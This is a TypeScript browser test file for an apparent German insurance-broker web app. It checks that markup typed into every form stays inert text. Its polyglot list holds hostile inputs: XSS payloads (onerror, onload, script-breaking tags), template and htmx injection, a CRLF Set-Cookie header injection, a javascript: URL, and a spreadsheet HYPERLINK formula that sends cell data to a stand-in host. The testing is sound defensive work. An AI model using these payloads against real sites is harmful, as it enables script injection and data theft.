/**
 * Every text field of every form is filled with what is markup, script, formula or header elsewhere; then every page is walked in a real
 * browser. Nothing of it runs, the CSP has nothing to refuse, and it all stands there as the text it is.
 */
import { randomUUID } from 'node:crypto'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openFenster, startBrowser, watchFehler } from '../support/browser.ts'
import { type Buero, insertBuero, insertReihe } from '../support/buero.ts'
import { ROUTEN, type Ziel, toAnfrage } from '../support/routen.ts'
import { type TestWeb, createTestWeb } from '../support/web.ts'

const POLYGLOTTE = [
  '<img src=x onerror=fremd()><b data-fremd>x</b>',
  '"><svg onload=fremd()><b data-fremd>',
  `' autofocus onfocus=fremd() data-fremd='`,
  `</textarea></title></script><script>fremd()</script><b data-fremd>`,
  `';fremd();//\`\${fremd()}\`{{fremd()}}<%=fremd()%>#{fremd()}`,
  '<div data-fremd hx-get="/abmelden" hx-trigger="load"></div>',
  '<hx-partial hx-target="#inhalt"><b data-fremd>x</b></hx-partial>',
  '=HYPERLINK("https://boese.example/?"&A1,"hier")',
  'a\r\nSet-Cookie: fremd=1\r\n\r\n<b data-fremd>',
  'javascript:fremd()',
  '\u202Egnp.exe\u202C \u2028\u2029\uFEFF Z\u0338\u0489 \u{1F600}<b data-fremd>',
] as const
/** Forms that would end the session, take the person away, or are a delivery. */
const NICHT = /^\/(abmelden|anmelden|passwort|profil\/passwort|betrieb\/demo|importe)|\/aktiv$/

let web: TestWeb
let buero: Buero
let origin: string
let browser: Browser
const ziele: Ziel[] = []

beforeAll(async () => {
  web = await createTestWeb()
  const { owner } = web.database
  buero = await insertBuero(owner, 'hier')
  for (const _ of POLYGLOTTE)
    ziele.push({ buero, reihe: await insertReihe(owner, { betrieb: buero.betrieb, vermittler: buero.anna.id, wort: 'Kanariehieranna' }) })
  origin = await web.serve()
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  await web?.drop()
})

/** What the forms do not let go by empty. */
const AUSGEFUELLT: Record<string, string> = {
  datum: '14.12.2026', wann: 'ANDERS', zeit: '10:00', an: 'kundin@kunde.example', email: '', sparte: 'HAUSRAT', bestandsart: 'EIGEN', vu_nummer: 'NEU', vu_neu: '5342', zahlungsweise: '', art: 'NATUERLICH', trotzdem: '', versicherte_person: '',
} // prettier-ignore

interface Formular {
  pfad: string
  /** What is sent as it stands, and where it is chosen, the first choice there is. */
  felder: Record<string, string>
  /** Fields for free text with the longest a browser lets in. */
  texte: Record<string, number>
}

/** The forms of a page that change something, as its browser sees them. */
const listForms = (page: Page): Promise<Formular[]> =>
  page.evaluate(() =>
    [...document.forms]
      .filter((form) => form.method === 'post')
      .map((form) => {
        const felder: Record<string, string> = {}
        const texte: Record<string, number> = {}
        for (const feld of form.querySelectorAll<HTMLInputElement>('input, textarea, select')) {
          if (!feld.name || feld.type === 'file') continue
          const wahl = feld.type === 'radio' || feld.type === 'checkbox'
          if (feld instanceof HTMLSelectElement)
            felder[feld.name] ||= feld.value || ([...feld.options].find(({ value }) => value !== '')?.value ?? '')
          else if (wahl) felder[feld.name] ??= feld.value
          else felder[feld.name] = feld.value
          const eng =
            /datum|geburt|_am$|_seit$|^(am|bis|wann|zeit|beginn|ablauf|hauptfaelligkeit|plz|telefon|mobil|vu_neu|vu_nummer|beitrag|stand)$/.test(
              feld.name,
            )
          const frei = (!eng && feld.type === 'text' && !feld.inputMode && (feld.maxLength < 0 || feld.maxLength > 20)) || feld.type === 'textarea'
          if (frei) texte[feld.name] = feld.maxLength < 0 ? 4000 : feld.maxLength
        }
        const { pathname, search } = new URL(form.action)
        return { pfad: pathname + search, felder, texte }
      }),
  )

/** Of the customer or contract that a form is about; '1' for what has no such row. */
async function findVersion(pfad: string): Promise<string> {
  const [, tabelle, nummer] = /(kunden|vertraege)\/(\d+)\/bearbeiten$/.exec(pfad) ?? []
  if (!nummer) return '1'
  const name = tabelle === 'kunden' ? 'kunde' : 'vertrag'
  const { version } = await web.database.owner.selectFrom(name).select('version').where('id', '=', Number(nummer)).executeTakeFirstOrThrow()
  return String(version)
}

const muster = (pfad: string): string => pfad.replace(/\d+/g, ':n').replace(/\?.*/, '')

test('what is typed as markup stays text: nothing runs, nothing is refused by the CSP, nothing is lost', { timeout: 900_000 }, async () => {
  const fenster = await openFenster(browser, origin, { token: buero.karin.token })
  const page = await fenster.newPage()
  const fehler = watchFehler(page)
  const gelaufen: string[] = []
  page.on('dialog', (dialog) => void dialog.dismiss())
  await page.exposeFunction('fremd', () => void gelaufen.push(page.url()))

  const abgelehnt = new Map<string, string>()
  const gesendet = new Map<string, { angenommen: number; felder: Set<string> }>()
  const seiten = Object.entries(ROUTEN).filter(([name, { darf }]) => name.startsWith('GET') && darf !== 'OFFEN' && !name.endsWith('.csv'))
  const formulare = new Map<string, { name: string; form: Formular }>()
  for (const [name] of seiten) {
    await page.goto(toAnfrage(name, ziele[0]!).pfad)
    for (const form of await listForms(page))
      if (!NICHT.test(form.pfad) && Object.keys(form.texte).length > 0) formulare.set(`${name} ${muster(form.pfad)}`, { name, form })
  }

  // What closes the Fall comes last: after it the others are refused.
  const sortiert = [...formulare.values()].sort(
    (a, b) => Number(a.form.pfad.endsWith('/dokumentation')) - Number(b.form.pfad.endsWith('/dokumentation')),
  )
  for (const [i, polyglott] of POLYGLOTTE.entries())
    for (const { name, form } of sortiert) {
      // The same form about this polyglot's own rows.
      const [alt, neu] = [ziele[0]!.reihe, ziele[i]!.reihe]
      const pfad = form.pfad.replace(/(faelle|kunden|vorgaenge|vertraege)\/(\d+)|kunde=(\d+)/g, (stelle) => {
        const [nummer] = /\d+/.exec(stelle)!
        const feld = (Object.keys(alt) as (keyof typeof alt)[]).find((f) => f !== 'vermittler' && String(alt[f]) === nummer && passt(f, stelle))
        return feld ? stelle.replace(nummer, String(neu[feld])) : stelle
      })
      const getippt = Object.fromEntries(Object.entries(form.texte).map(([feld, laenge]) => [feld, polyglott.slice(0, laenge)]))
      // Its number was typed once already, for a new contract.
      if ('vsnr' in getippt && pfad.endsWith('/bearbeiten')) getippt['vsnr'] = `${getippt['vsnr']!.slice(0, -1)}2`
      const fest = Object.fromEntries(Object.entries(AUSGEFUELLT).filter(([feld]) => feld in form.felder))
      if (!('vu_neu' in form.felder) && 'vu_nummer' in fest) fest['vu_nummer'] = '5342'
      // Whether somebody else changed it meanwhile is not the question here.
      if ('gesehen' in form.felder) fest['gesehen'] = ''
      if ('version' in form.felder) fest['version'] = await findVersion(pfad)
      if ('email' in fest) fest['email'] = `neu-${randomUUID()}@kunde.example`
      const felder = { ...form.felder, ...fest, ...('aktion' in form.felder && { aktion: randomUUID() }), ...getippt }
      const antwort = await web.als(buero.karin.token, pfad, { form: felder })
      const text = await antwort.text()
      if (antwort.status >= 400) abgelehnt.set(muster(form.pfad), /class="fehler[^>]*>([\s\S]{0,400})/.exec(text)?.[1] ?? text.slice(0, 200))
      expect([name, pfad, antwort.status < 500]).toEqual([name, pfad, true])
      expect([name, pfad, /<b data-fremd|<svg onload|<div data-fremd|onerror=fremd\(\)>(?!&)/.exec(text)?.[0]]).toEqual([name, pfad, undefined])
      expect(antwort.headers.getSetCookie().filter((cookie) => cookie.startsWith('fremd'))).toEqual([])
      const bisher = gesendet.get(muster(form.pfad)) ?? { angenommen: 0, felder: new Set() }
      for (const feld of Object.keys(getippt)) bisher.felder.add(feld)
      gesendet.set(muster(form.pfad), { ...bisher, angenommen: bisher.angenommen + (antwort.status < 400 ? 1 : 0) })
    }
  const mitText = [...gesendet]
  expect(mitText.length).toBeGreaterThan(10)
  // A form that took none of it would hide what its page makes of it.
  expect(mitText.filter(([, { angenommen }]) => angenommen === 0).map(([pfad]) => [pfad, abgelehnt.get(pfad)])).toEqual([])

  const besucht = new Map<string, number>()
  const gelesen = new Set<string>()
  for (const [wer, token] of [
    ['Karin', buero.karin.token],
    ['Anna', buero.anna.token],
  ] as const) {
    await fenster.clearCookies()
    await fenster.addCookies([{ name: 'sitzung', value: token, url: origin, httpOnly: true, sameSite: 'Lax' }])
    const gefragt = POLYGLOTTE.slice(0, 6).flatMap((p) =>
      ['/kunden', '/vorgaenge/neu', '/hilfe/geschaeftsvorfaelle'].map((s) => `${s}?${new URLSearchParams({ q: p })}`),
    )
    const schlange = [
      '/',
      ...gefragt,
      ...ziele.map(({ reihe }) => `/kunden/${reihe.kunde}?verlauf=ganz`),
      ...seiten.flatMap(([name]) => ziele.slice(0, 2).map((ziel) => toAnfrage(name, ziel).pfad)),
    ]
    for (let pfad = schlange.shift(); pfad !== undefined; pfad = schlange.shift()) {
      const art = `${wer} ${pfad.includes('verlauf=ganz') || pfad.includes('?q=') ? pfad : muster(pfad)}`
      if ((besucht.get(art) ?? 0) >= 2) continue
      besucht.set(art, (besucht.get(art) ?? 0) + 1)
      await page.goto(pfad)
      const { html, links, fremde } = await page.evaluate(() => ({
        html: document.body.innerText + [...document.querySelectorAll('input, textarea')].map((feld) => (feld as HTMLInputElement).value).join('\n'),
        links: [...document.querySelectorAll('a[href^="/"]')].map((a) => a.getAttribute('href')!),
        fremde: document.querySelectorAll('[data-fremd], script:not([src^="/static/"]), [onerror], [onload], [onfocus], a[href^="javascript:"]')
          .length,
      }))
      expect([pfad, fremde]).toEqual([pfad, 0])
      for (const p of POLYGLOTTE) if (html.replace(/\s+/g, ' ').includes(p.replace(/\s+/g, ' ').slice(0, 20))) gelesen.add(p)
      schlange.push(...links.filter((link) => !/\.csv|abmelden/.test(link)))
    }
  }
  expect(gelaufen).toEqual([])
  expect(fehler.filter((text) => !/status of (403|404|422)/.test(text))).toEqual([])
  expect(POLYGLOTTE.filter((p) => !gelesen.has(p))).toEqual([])
  expect(besucht.size).toBeGreaterThan(60)

  const tabelle = await (await web.als(buero.karin.token, '/anlauf/vorschau.csv')).text()
  for (const zelle of tabelle.replace('\uFEFF', '').split(/;|\r\n/)) expect(zelle).not.toMatch(/^"?[=+@\t\r-]/)
})

function passt(feld: string, stelle: string): boolean {
  if (stelle.startsWith('kunde')) return feld === 'kunde'
  if (stelle.startsWith('vertraege')) return feld === 'vertrag'
  return stelle.startsWith('vorgaenge') ? feld === 'vorgang' : ['fall', 'dokumentiert', 'gesperrt'].includes(feld)
}
